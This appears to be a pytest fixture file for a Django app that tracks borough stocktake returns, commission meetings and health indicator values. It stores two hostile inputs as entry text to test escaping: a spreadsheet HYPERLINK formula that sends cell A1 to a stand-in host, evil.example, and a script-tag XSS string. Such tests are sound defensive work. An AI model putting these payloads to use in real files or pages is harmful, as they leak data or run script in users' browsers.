from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.test import Client
from django.utils import timezone

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SCRIPT = "<script>alert('x')</script>\nsecond line"


@pytest.fixture
def stages(world):
    """A round the boroughs reached at different stages, then closed; and a commission with both kinds of meeting.

    - St Helens' and Liverpool's returns are accepted, Halton's submitted, Sefton's returned, Knowsley's a draft;
    - a joint Liverpool and Halton entry (Halton not accepted), an entry naming no place, an ICS-level entry;
    - St Helens' commission has published minutes and draft minutes; Cheshire East's has published minutes.
    """
    from commissions.models import Attendance, Meeting
    from indicators.models import Area, IndicatorValue
    from stocktake.models import Entry, Return, Round

    places, theme = world.places, world.framework.themes.get(number=1)
    round_ = Round.objects.create(framework=world.framework, name="Stages round 2024")
    statuses = {
        "st-helens": Return.Status.ACCEPTED,
        "liverpool": Return.Status.ACCEPTED,
        "halton": Return.Status.SUBMITTED,
        "sefton": Return.Status.RETURNED,
        "knowsley": Return.Status.DRAFT,
    }
    for slug, status in statuses.items():
        Return.objects.create(round=round_, place=places[slug], status=status)

    def entry(text, *named, level="borough", column_place=None):
        created = Entry.objects.create(round=round_, theme=theme, level=level, column_place=column_place, text=text)
        created.places.set([places[slug] for slug in named])
        return created

    entries = SimpleNamespace(
        st_helens=entry("St Helens accepted hub", "st-helens"),
        liverpool=entry(HOSTILE, "liverpool"),
        script=entry(SCRIPT, "st-helens"),
        halton=entry("Halton submitted hub", "halton"),
        sefton=entry("Sefton returned hub", "sefton"),
        knowsley=entry("Knowsley draft hub", "knowsley"),
        joint=entry("Liverpool and Halton joint hub", "liverpool", "halton"),
        nowhere=entry("Borough entry naming no place"),
        ics=entry("ICS level anchor institutions", level="ics", column_place=places["cheshire-and-merseyside"]),
    )
    Round.objects.filter(pk=round_.pk).update(status=Round.Status.CLOSED)
    round_.refresh_from_db()

    def meeting(commission, status, title):
        created = Meeting.objects.create(commission=commission, starts_at=timezone.now(), status=status, title=title)
        item = created.items.create(number="1", title=f"{title} item")
        item.paragraphs.create(number="1.1", text=f"{title} paragraph")
        created.decisions.create(text=f"{title} decision", item=item)
        Attendance.objects.create(meeting=created, name_or_position=f"Ms {title} Attendee")
        return created

    meetings = SimpleNamespace(
        published=meeting(world.commissions.st_helens, Meeting.Status.PUBLISHED, "Published January"),
        draft=meeting(world.commissions.st_helens, Meeting.Status.DRAFT, "Draft March"),
        planned=meeting(world.commissions.st_helens, Meeting.Status.PLANNED, "Planned May"),
        other=meeting(world.commissions.cheshire_east, Meeting.Status.PUBLISHED, "Cheshire East June"),
    )
    indicator = world.framework.indicators.order_by("number").first()
    area = Area.objects.create(code="E08000011", name="Knowsley", kind=Area.Kind.PLACE, place=places["knowsley"])

    def value(period_start, figure, source):
        return IndicatorValue.objects.create(
            indicator=indicator,
            area=area,
            period_label=str(period_start),
            period_start=period_start,
            period_years=1,
            period_kind="calendar",
            value=Decimal(figure),
            lower_95=Decimal(figure) - 1,
            upper_95=Decimal(figure) + 1,
            source=source,
        )

    values = SimpleNamespace(
        published=value(2021, "78.400000", "OHID Fingertips"),
        local=value(2022, "12.5", "Reported locally by Knowsley"),
    )
    world.stages = SimpleNamespace(round=round_, entries=entries, meetings=meetings, indicator=indicator, values=values)
    return world


def client_for(world, role) -> Client:
    client = Client()
    if role != "anonymous":
        client.force_login(getattr(world.users, role))
    return client
